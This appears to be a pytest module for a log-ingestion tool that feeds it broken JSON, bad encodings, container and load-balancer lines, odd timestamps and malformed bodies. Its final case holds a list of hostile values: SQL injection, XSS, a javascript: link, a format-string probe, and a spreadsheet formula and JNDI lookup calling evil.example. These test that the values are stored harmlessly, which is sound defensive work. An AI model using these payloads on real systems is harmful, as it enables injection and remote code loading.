"""Cases 27 to 56, and 65: single lines that are broken, odd, hostile, or of another world.

Each case is one file. `of_lines` splits a case in two: it yields the lines of its file, and goes
on when the file is loaded. All files are loaded in one run, as they would be at night; `make
torture` loads each in a database of its own as well.
"""

from __future__ import annotations

import functools
import json
from collections.abc import Callable, Generator, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from logs import Logs, label_of
from stand import COUNTS, Stand, copy_of

Parts = tuple[bytes, ...]
Case = Generator[Parts, "Loaded", None]

CASES: dict[str, Callable[[Logs], Case]] = {}


class Loaded:
    """What became of a case's file."""

    def __init__(self, stand: Stand, path: Path, label: str) -> None:
        self.stand, self.path, self.label = stand, path, label

    @property
    def status(self) -> str:
        return str(self.stand.source(self.path)["status"])

    @property
    def reason(self) -> str:
        return str(self.stand.source(self.path)["reason"])

    @property
    def counts(self) -> list[int]:
        return self.stand.counts(self.path)

    @property
    def rejected(self) -> dict[int, str]:
        return self.stand.rejected(self.path)

    @property
    def traces(self) -> list[str]:
        return self.stand.traces(self.label)

    def events(self, columns: str) -> list[tuple[Any, ...]]:
        query = (
            f"select {columns} from events where source_id = $1 order by line_number, record_number"
        )
        return self.stand.sql(query, self.stand.source(self.path)["source_id"])

    def responses(self, columns: str) -> list[tuple[Any, ...]]:
        query = (
            f"select {columns} from responses where tenant_id = $1 order by occurred_at, trace_id"
        )
        return self.stand.sql(query, f"tenant-{self.label}")


def of_lines(function: Callable[[Logs], Case]) -> Callable[..., None]:
    CASES[function.__name__] = function

    @functools.wraps(function)
    def case(loaded_together: Any, alone: Any, record_property: Any) -> None:
        name = function.__name__
        for stand in (loaded_together, alone(name)):
            if stand is not None:
                record_property("got", finish(name, stand))

    del case.__wrapped__  # type: ignore[attr-defined]  # pytest would ask for its arguments
    return case


def begin(name: str, stand: Stand) -> Path:
    generator = CASES[name](Logs(label_of(name)))
    return stand.write(f"{name}.log", *next(generator))


def finish(name: str, stand: Stand) -> str:
    generator = CASES[name](Logs(label_of(name)))
    next(generator)
    path = stand.home / "logs" / f"{name}.log"
    with pytest.raises(StopIteration):
        generator.send(Loaded(stand, path, label_of(name)))
    # All files together were held to the invariants when they were loaded. Offered again alone,
    # a file adds nothing, and the exit code is about it.
    before = stand.state()
    said = stand.ingest("--data-dir", stand.data, path)
    assert said.exit_code == (stand.source(path)["status"] == "refused")
    stand.assert_unchanged(before, said)
    return described(stand, path)


def described(stand: Stand, path: Path) -> str:
    row = stand.source(path)
    counts = [f"{row[what]} {what}" for what in COUNTS if row[what]]
    reasons = sorted({*stand.rejected(path).values()})
    return "; ".join(filter(None, [row["status"], ", ".join(counts), *reasons, row["reason"]]))


@pytest.fixture(scope="module")
def loaded_together(earlier: Stand, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
    stand = copy_of(earlier, tmp_path_factory.mktemp("together"))
    paths = [begin(name, stand) for name in CASES]
    said = stand.ingest("--data-dir", stand.data, *paths)
    assert said.exit_code == 1, said.words
    assert "check failed" not in said.words
    stand.assert_invariants()
    yield stand
    stand.close()


@pytest.fixture
def alone(earlier: Stand, tmp_path: Path, is_long: bool) -> Iterator[Callable[[str], Stand | None]]:
    def load(name: str) -> Stand | None:
        if not is_long:
            return None
        stand = copy_of(earlier, tmp_path)
        stand.ingest("--data-dir", stand.data, begin(name, stand))
        stand.assert_invariants()
        return stand

    yield load


# ---- JSON


@of_lines
def case_27_invalid_json_line(logs: Logs) -> Case:
    """Rejected as `json` under its own number; the good lines around it are accepted."""
    one, two, three, four = logs.answered(2)
    loaded = yield one, two, b'{"ts":"2026-11-21T10:00:00Z","event":}\n', three, b"panic\n", four
    assert loaded.rejected == {3: "json", 5: "json"}
    assert loaded.counts == [6, 4, 2, 0, 0]
    assert loaded.traces == ["0", "1"]


@of_lines
def case_28_line_cut_in_the_middle(logs: Logs) -> Case:
    """Rejected as `json`; the next line is accepted."""
    one, two, three, four = logs.answered(2)
    loaded = yield one, two[:90] + b"\n", three, four
    assert loaded.rejected == {2: "json"}
    assert loaded.traces == ["1"]


@of_lines
def case_29_two_objects_glued(logs: Logs) -> Case:
    """Rejected as `glued`: the halves may be of different lines."""
    one, two, three, four = logs.answered(2)
    loaded = yield one.rstrip() + two, three, four, one.rstrip() + b" " + three.rstrip() + four
    assert loaded.rejected == {1: "glued", 4: "glued"}
    assert loaded.traces == ["1"]


@of_lines
def case_30_json_array(logs: Logs) -> Case:
    """Refused with a hint how to write one object a line."""
    inner = b",\n".join(line.rstrip() for line in logs.answered(30))
    loaded = yield (b"[" + inner + b"]\n",)
    assert loaded.status == "refused"
    assert "jq -c '.[]'" in loaded.reason


@of_lines
def case_30_pretty_printed_document(logs: Logs) -> Case:
    """Documents laid out over several lines are records, one each; one that is cut is rejected."""
    objects = [json.loads(line) for line in logs.answered(3)]
    texts = [json.dumps(value, indent=2) for value in objects]
    loaded = yield ("\n".join([*texts, texts[0][:100]]).encode() + b"\n",)
    assert loaded.rejected == {sum(text.count("\n") + 1 for text in texts) + 1: "json"}
    assert loaded.counts == [7, 6, 1, 0, 0]


@of_lines
def case_31_valid_json_but_no_object(logs: Logs) -> Case:
    """Rejected as `not_object`."""
    loaded = yield *logs.answered(3), b"null\n", b"42\n", b'"x"\n', b"[]\n", b"true\n"
    assert set(loaded.rejected.values()) == {"not_object"}
    assert loaded.counts == [11, 6, 5, 0, 0]


@of_lines
def case_32_unknown_shape(logs: Logs) -> Case:
    """A file that no format fits is refused by name."""
    status = {"version": 9, "nginx_version": "1.25.5", "connections": {"active": 3}}
    loaded = yield ((json.dumps(status) + "\n").encode() * 30,)
    assert loaded.status == "refused"
    assert "no known format fits" in loaded.reason


@of_lines
def case_32_mostly_unknown_shape(logs: Logs) -> Case:
    """More than half of 20 lines or more rejected: refused with the commonest reasons."""
    loaded = yield logs.answered(1)[0], *[b'{"ts":1,"event":"x"}\n'] * 15, *[b"milk\n"] * 9
    assert loaded.status == "refused"
    assert "24 of 25 lines" in loaded.reason
    assert "time 15" in loaded.reason and "json 9" in loaded.reason
    assert loaded.traces == []


@of_lines
def case_33_duplicate_keys(logs: Logs) -> Case:
    """The first counts, in the line and in the body."""
    line = logs.sent("10:00:00", 0, 503, 3001)
    twice = line.replace(b'"code":3001', b'"code":3001,"code":4002')
    twice = twice.rstrip(b"}\n") + b'},"tenant_id":"tenant-other","trace_id":"other"}\n'
    loaded = yield (
        twice.replace(b'"trace_id":"' + logs.trace(0).encode() + b'"},"tenant', b'},"tenant'),
    )
    assert loaded.counts == [1, 1, 0, 0, 0]
    assert loaded.responses("trace_id, error_code") == [(logs.trace(0), 3001)]


@of_lines
def case_34_numbers_out_of_bounds(logs: Logs) -> Case:
    """Rejected, or NULL where the error itself must not be lost; never wrapped, never a crash."""

    def sent(name: str, old: bytes, new: bytes) -> bytes:
        line = logs.sent("10:00:00", name, 503, 3001)
        assert old in line
        return line.replace(old, new)

    loaded = yield (
        sent("nan", b'"duration_ms":100', b'"duration_ms":NaN'),
        sent("infinity", b'"duration_ms":100', b'"duration_ms":Infinity'),
        sent("huge", b'"duration_ms":100', b'"duration_ms":1e999'),
        sent("status", b'"http.status":503', b'"http.status":9223372036854775808'),
        sent("minus", b'"http.status":503', b'"http.status":-99999'),
        sent("code", b'"code":3001', b'"code":9223372036854775809'),
        sent("exponent", b'"code":3001', b'"code":1e999'),
        sent("many", b'"code":3001', b'"code":' + b"9" * 5000),
    )
    assert loaded.rejected == dict.fromkeys(range(1, 6), "number")
    rows = loaded.responses("trace_id, is_error, error_code")
    assert sorted(rows) == [(logs.trace(n), True, None) for n in ("code", "exponent", "many")]


@of_lines
def case_35_line_of_a_megabyte_and_a_half(logs: Logs) -> Case:
    """Accepted, and so are the lines after it. (100 MB: test_bounds.py.)"""
    one, two, three, four = logs.answered(2)
    long = logs.app("10:00:00", "note", "long", detail="word " * 300_000)
    loaded = yield one, two, long, three, four
    assert loaded.counts == [5, 5, 0, 0, 0]


@of_lines
def case_36_nesting_10000_deep(logs: Logs) -> Case:
    """Rejected or accepted as it reads, without a crash; the next line is accepted."""
    depth = 10_000
    value = b"[" * depth + b"]" * depth
    deep = logs.app("10:00:00", "note", "deep", detail="@").replace(b'"@"', value)
    body = logs.sent("10:00:01", "body", 503, response__body="@").replace(
        b'"@"', b'{"error":' * depth + b"1" + b"}" * depth
    )
    loaded = yield *logs.answered(1), deep, body, *logs.answered(1, first=1)
    lines, events, rejected, *_ = loaded.counts
    assert (lines, events + rejected) == (6, 6)
    assert {"0", "1"} <= set(loaded.traces)


# ---- bytes


@of_lines
def case_37_invalid_utf8(logs: Logs) -> Case:
    """Rejected as `encoding`; the lines around it are accepted."""
    one, two, three, four = logs.answered(2)
    broken = logs.app("10:00:00", "note", "x").replace(b"chert-api-1", b"chert\xff\xc3-1")
    surrogate = logs.app("10:00:00", "note", "y").replace(b"chert-api-1", b"\xed\xa0\x80")
    loaded = yield one, two, broken, three, surrogate, four
    assert loaded.rejected == {3: "encoding", 5: "encoding"}
    assert loaded.traces == ["0", "1"]


@of_lines
def case_38_byte_order_mark_and_line_ends(logs: Logs) -> Case:
    """BOM and CRLF leave no trace; only a newline ends a line."""
    odd = logs.app("10:00:00", "note", "odd", detail="a\u2028b\u0085c\x0bd")
    lines = [*logs.answered(2), odd]
    loaded = yield (b"\xef\xbb\xbf" + b"".join(lines).replace(b"\n", b"\r\n"),)
    assert loaded.counts == [5, 5, 0, 0, 0]
    assert loaded.traces == ["0", "1"]
    assert loaded.events("tenant_id") == [(f"tenant-{logs.label}",)] * 5


@of_lines
def case_38_edge_lines_with_crlf(logs: Logs) -> Case:
    """The last field of an edge line carries no CR."""
    loaded = yield logs.edge("10:00:00", 0).replace(b"\n", b"\r\n"), logs.edge("10:00:01", 1)
    assert loaded.events("tenant_id") == [(f"tenant-{logs.label}",)] * 2


@of_lines
def case_38_lone_carriage_returns(logs: Logs) -> Case:
    """A CR ends no line: what it holds together is rejected, the rest accepted."""
    one, two, three, four = logs.answered(2)
    loaded = yield one.rstrip() + b"\r" + two, three, four
    assert loaded.rejected == {1: "glued"}
    assert loaded.traces == ["1"]


@of_lines
def case_38_utf16(logs: Logs) -> Case:
    """Refused with the command that converts it."""
    loaded = yield (b"".join(logs.answered(2)).decode().encode("utf-16"),)
    assert loaded.status == "refused"
    assert "iconv" in loaded.reason


@of_lines
def case_39_block_of_nul_bytes(logs: Logs) -> Case:
    """The line behind it is rejected as `nul`; reading goes on."""
    one, two, three, four = logs.answered(2)
    loaded = yield one, two, bytes(4096) + three, four
    assert loaded.rejected == {3: "nul"}
    assert loaded.traces == ["0", "1"]


@of_lines
def case_39_nothing_but_nul_bytes(logs: Logs) -> Case:
    """Refused as binary."""
    loaded = yield (bytes(10_000),)
    assert loaded.status == "refused"
    assert "binary data" in loaded.reason


@of_lines
def case_40_colours_and_control_characters(logs: Logs) -> Case:
    """Escaped, accepted; raw, no JSON. What is stored of them is cleaned where it is shown."""
    coloured = logs.app("10:00:00", "note", "esc", detail="\x1b[31mred\x1b[0m\x07 \x9b1m")
    raw = logs.app("10:00:00", "note", "raw", detail="@").replace(b"@", b"\x1b[31m")
    loaded = yield *logs.answered(1), coloured, raw
    assert loaded.rejected == {4: "json"}
    ((detail,),) = loaded.events("detail")[2:]
    assert "red" in detail


# ---- other writers' lines


@of_lines
def case_41_docker_and_cri_wrappers(logs: Logs) -> Case:
    """Taken off, also one inside the other; a message that is split counts as one record."""

    def docker(text: str) -> str:
        return json.dumps({"log": text, "stream": "stdout", "time": "2026-11-21T10:00:00Z"})

    wrapped = []
    for number, line in enumerate(logs.answered(15)):
        inner = f"2026-11-21T10:00:00.0Z stdout F {line.decode()}"
        split = [inner[:60], inner[60:]] if number % 10 == 0 else [inner]
        wrapped += [docker(part) for part in split]
    loaded = yield ("\n".join(wrapped).encode() + b"\n",)
    assert loaded.counts == [30, 30, 0, 0, 0]
    assert loaded.traces == sorted(str(n) for n in range(15))


@of_lines
def case_41_cri_lines_between_our_own(logs: Logs) -> Case:
    """A split line of a container's log is rejected, part by part; our own are accepted."""
    part = b"2026-11-21T10:00:00.000000000Z stdout P " + logs.answered(1)[0][:100]
    loaded = yield *logs.answered(2), part + b"\n", part.replace(b" P ", b" F ") + b"\n"
    assert loaded.rejected == {5: "json", 6: "json"}
    assert loaded.traces == ["0", "1"]


@of_lines
def case_42_stack_trace_between_lines(logs: Logs) -> Case:
    """Each of its 40 lines is rejected; the good ones before and after are accepted."""
    trace = [b'  File "worker.py", line %d, in run\n' % n for n in range(40)]
    loaded = yield *logs.answered(25), *trace, *logs.answered(1, first=25)
    assert loaded.counts == [92, 52, 40, 0, 0]
    assert loaded.traces == sorted(str(n) for n in range(26))


@of_lines
def case_43_aws_load_balancer_lines(logs: Logs) -> Case:
    """29, 30, 33 and more fields in one file: all are read; one cut short is rejected."""
    line = (
        b"https 2026-11-21T10:00:00.000000Z app/chert/50dc6c 192.0.2.7:2817 10.0.0.1:80 0.000 "
        b'0.001 0.000 200 200 34 366 "POST https://api:443/api/v1/send HTTP/1.1" "curl" ECDHE '
        b'TLSv1.2 arn:aws:x "Root=1-58337262-36d228ad5d99923122bbe354" "api" "arn:y" 0 '
        b'2026-11-21T10:00:00.0Z "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"'
    )
    more = (b"", b" TID_1234abcd5678ef90", b' TID_1 "-" "-" "-"', b" TID_1" + b' "-"' * 10)
    loaded = yield *(line + end + b"\n" for end in more), line[:-20] + b"\n"
    assert loaded.rejected == {5: "syntax"}
    assert (
        loaded.events("http_status, bytes_sent, duration_ms, upstream_ms") == [(200, 366, 1, 1)] * 4
    )


@of_lines
def case_44_upstream_times_of_nginx(logs: Logs) -> Case:
    """Of several upstreams the last one's time counts; none is NULL, not 0."""
    values = ["0.001, 0.002", "-", "", "0.010 : 0.020", " : ", "0.5, -"]
    loaded = yield (
        *(logs.edge(f"10:00:0{n}", n, upstream=value) for n, value in enumerate(values)),
    )
    assert loaded.events("upstream_ms") == [(2,), (None,), (None,), (20,), (None,), (None,)]


@of_lines
def case_45_binary_request(logs: Logs) -> Case:
    """Accepted with status 400, without method and path."""
    loaded = yield (
        logs.edge("10:00:00", status=400, request=r"\x16\x03\x01\x02"),
        logs.edge("10:00:01", status=400, request=""),
    )
    assert loaded.events("http_status, http_method, url_path") == [(400, None, None)] * 2


@of_lines
def case_46_odd_statuses(logs: Logs) -> Case:
    """Accepted as they are, and no error codes; nginx always writes three digits."""
    values = ["499", "000", "999", "-", "0"]
    loaded = yield (*(logs.edge(f"10:00:0{n}", n, value) for n, value in enumerate(values)),)
    assert loaded.rejected == {5: "syntax"}
    assert loaded.events("http_status, error_code") == [
        (499, None),
        (0, None),
        (999, None),
        (None, None),
    ]


# ---- times


@of_lines
def case_47_no_readable_time(logs: Logs) -> Case:
    """Rejected as `time`; never taken for now."""

    def at(value: Any) -> bytes:
        return logs.app("10:00:00", "note", "x", ts=value)

    loaded = yield *logs.answered(3), at(None), at("2026-13-45T10:00:00Z"), at("soon"), at("")
    assert set(loaded.rejected.values()) == {"time"} and len(loaded.rejected) == 4
    assert loaded.counts[:3] == [10, 6, 4]


@of_lines
def case_48_time_without_offset(logs: Logs) -> Case:
    """Taken as UTC, whatever the machine's zone, also where summer time begins or ends."""
    times = ["2026-03-29T02:30:00", "2026-10-25T02:30:00.5", "2026-03-08 02:30:00Z"]
    with_offset = ["2026-03-29T02:30:00+05:45", "2026-10-25T02:30:00 -0330"]
    loaded = yield (*(logs.app("10:00:00", "note", "x", ts=text) for text in times + with_offset),)
    assert [f"{at:%m-%dT%H:%M:%S.%f}" for (at,) in loaded.events("occurred_at")] == [
        "03-29T02:30:00.000000",
        "10-25T02:30:00.500000",
        "03-08T02:30:00.000000",
        "03-28T20:45:00.000000",
        "10-25T06:00:00.000000",
    ]


@of_lines
def case_49_precision_and_units(logs: Logs) -> Case:
    """Second 60 and nine digits are read; commas and bare numbers are rejected, not guessed."""
    times = ["2026-12-31T23:59:60Z", "2026-11-21T10:00:00.123456789Z"]
    unread = ["2026-11-21T10:00:00,123Z", 1795255200, 1795255200123, "1795255200123456"]
    loaded = yield (
        *(logs.app("10:00:00", "note", "x", ts=value) for value in [*times, *unread]),
        *logs.answered(3),
    )
    assert loaded.rejected == dict.fromkeys(range(3, 7), "time")
    assert [f"{at:%m-%dT%H:%M:%S.%f}" for (at,) in loaded.events("occurred_at")][:2] == [
        "01-01T00:00:00.000000",
        "11-21T10:00:00.123456",
    ]


@of_lines
def case_49_nanoseconds_of_otlp(logs: Logs) -> Case:
    """Nanoseconds become microseconds; 0 and words are rejected."""
    records = [logs.record("10:00:00", n) for n in range(4)]
    records[1]["timeUnixNano"] = "1795255200123456789"
    records[2]["timeUnixNano"] = "0"
    records[3]["timeUnixNano"] = "soon"
    loaded = yield (logs.otlp(*records),)
    assert loaded.counts == [4, 2, 2, 0, 0]
    ((at,),) = loaded.events("occurred_at")[1:]
    assert at.microsecond == 123456


@of_lines
def case_50_clocks_far_off(logs: Logs) -> Case:
    """Accepted between 1970 and 2300 as the host wrote it, rejected as `time` outside."""
    times = ["2026-11-21T12:00:00Z", "1970-01-01T00:00:01Z", "1969-12-31T23:59:59Z"]
    times += ["2262-04-11T23:47:16Z", "2300-01-01T00:00:00Z", "9999-12-31T23:59:59Z"]
    loaded = yield *(logs.app("10:00:00", "note", "x", ts=t) for t in times), *logs.answered(2)
    assert loaded.rejected == {3: "time", 5: "time", 6: "time"}


@of_lines
def case_51_syslog_of_december_and_january(logs: Logs) -> Case:
    """RFC 3164 has no year: it is the one in which no line is newer than the file."""
    lines = [b"<13>Dec 31 23:59:59 api chert: x\n", b"<13>Jan  1 00:00:01 api chert: y\n"]
    loaded = yield (*lines,)
    (december,), (january,) = loaded.events("occurred_at")
    assert january - december == timedelta(seconds=2) or december > january
    assert max(december, january) < datetime.now(UTC).replace(tzinfo=None) + timedelta(days=1)


@of_lines
def case_52_lines_out_of_order(logs: Logs) -> Case:
    """Accepted; what they make does not depend on their order."""
    retry = {"body_hash": "00112233445566aa"}
    lines = [
        logs.received("10:00:00", "a", **retry),
        logs.sent("10:00:01", "a", 500, 3001),
        logs.received("10:00:03", "b", **retry),
        logs.sent("10:00:04", "b"),
    ]
    loaded = yield (*reversed(lines),)
    assert loaded.responses("trace_id, attempt") == [(logs.trace("a"), 1), (logs.trace("b"), 2)]


# ---- identity and bodies


@of_lines
def case_53_odd_trace_ids(logs: Logs) -> Case:
    """Absent ones make no responses and never meet; odd ones stay what they are."""
    absent = [
        logs.app("10:00:00", "response.sent", None, trace_id=value, http__status=200)
        for value in (None, "", "-")
    ]
    odd = [
        logs.app("10:00:00", "response.sent", None, trace_id=value, http__status=200)
        for value in (f"{logs.label}-UPPER", f"{logs.label}-0123456789abcdef012345", 12)
    ]
    loaded = yield *absent, *odd
    assert [trace for (trace,) in loaded.events("trace_id")[:3]] == [None] * 3
    assert len(loaded.responses("trace_id")) == 3
    assert (f"{logs.label}-UPPER",) in loaded.responses("trace_id")


@of_lines
def case_54_one_trace_id_on_two_tenants_and_months(logs: Logs) -> Case:
    """Never merged: another tenant or another month is another response, and no violation."""
    loaded = yield (
        logs.sent("2026-10-21T10:00:00", "same"),
        logs.sent("10:00:00", "same"),
        logs.sent("10:00:00", "same", tenant_id=f"tenant-{logs.label}-b"),
    )
    assert loaded.responses("trace_id") == [(logs.trace("same"),)] * 2
    query = "select count(*) from responses where trace_id = $1"
    assert loaded.stand.sql(query, logs.trace("same")) == [(3,)]
    query = (
        "select count(*) from contract_violations where trace_id = $1 and kind like 'duplicate%'"
    )
    assert loaded.stand.sql(query, logs.trace("same")) == [(0,)]


@of_lines
def case_55_bodies_against_the_reference(logs: Logs) -> Case:
    """Values stay as sent, and each fault is a contract violation."""

    def sent(name: str, status: int = 503, **error: Any) -> bytes:
        kept = {key: value for key, value in error.items() if value is not None}
        body = {"success": False, "error": {"status": 503, "message": "No.", **kept}}
        return logs.sent(
            "10:00:00", name, status, response__body={**body, "trace_id": logs.trace(name)}
        )

    loaded = yield (
        sent("string", code="3002", retryable=True),
        sent("unknown", code=2009, retryable=False),
        sent("flagless", code=3002),
        sent("wire", 500, code=3002, retryable=True),
    )
    assert loaded.responses("trace_id, error_code, retryable") == [
        (logs.trace("flagless"), 3002, None),
        (logs.trace("string"), 3002, True),
        (logs.trace("unknown"), 2009, False),
        (logs.trace("wire"), 3002, True),
    ]
    query = "select trace_id, kind from contract_violations where trace_id like $1"
    found = set(loaded.stand.sql(query, f"{logs.label}-%"))
    assert {
        (logs.trace("string"), "code_as_string"),
        (logs.trace("unknown"), "undocumented_code"),
        (logs.trace("flagless"), "missing_retryable"),
        (logs.trace("wire"), "status_mismatch"),
    } <= found


@of_lines
def case_56_failures_under_200_and_codes_that_are_none(logs: Logs) -> Case:
    """An error if and only if the body's shape says so."""

    def sent(name: str, body: Any, surface: str = "hubspot") -> bytes:
        path = f"/api/{surface}/x"
        fields = {"surface": surface, "http__path": path, "http__route": path}
        return logs.sent("10:00:00", name, 200, response__body=body, **fields)

    trace = {"trace_id": "x"}
    loaded = yield (
        sent("a", {"ok": False, "code": 3001, "message": "No.", "retryable": True, **trace}),
        sent("b", {"outputFields": {"ok": "false", "code": 3001, "retryable": True}}),
        sent("c", {"success": True, "data": {"code": 4002, "items": [{"code": 1}]}}, "v1"),
        sent("d", {"results": [{"code": 4002}], "ok": True}),
    )
    assert loaded.responses("is_error, is_logical_failure, error_code") == [
        (True, True, 3001),
        (True, True, 3001),
        (False, False, None),
        (False, False, None),
    ]


HOSTILE = (
    "'; DROP TABLE store.event; --",
    '=HYPERLINK("http://evil.example","x")',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "[click](javascript:alert(1))",
    "%s%n{0}{{7*7}}",
)


@of_lines
def case_65_hostile_values(logs: Logs) -> Case:
    """Stored as data: what they would do in SQL happens to nobody. (Shown: tests/queries.)"""
    loaded = yield (
        *(
            logs.sent("10:00:00", n, tenant_id=value, http__route=value, version=value)
            for n, value in enumerate(HOSTILE)
        ),
    )
    assert loaded.counts == [6, 6, 0, 0, 0]
    tenants = {tenant for (tenant,) in loaded.events("tenant_id")}
    # Quoted text in a field is taken for a message's and replaced; the rest stays as it is.
    assert {value for value in HOSTILE if '"' not in value and "'" not in value} <= tenants
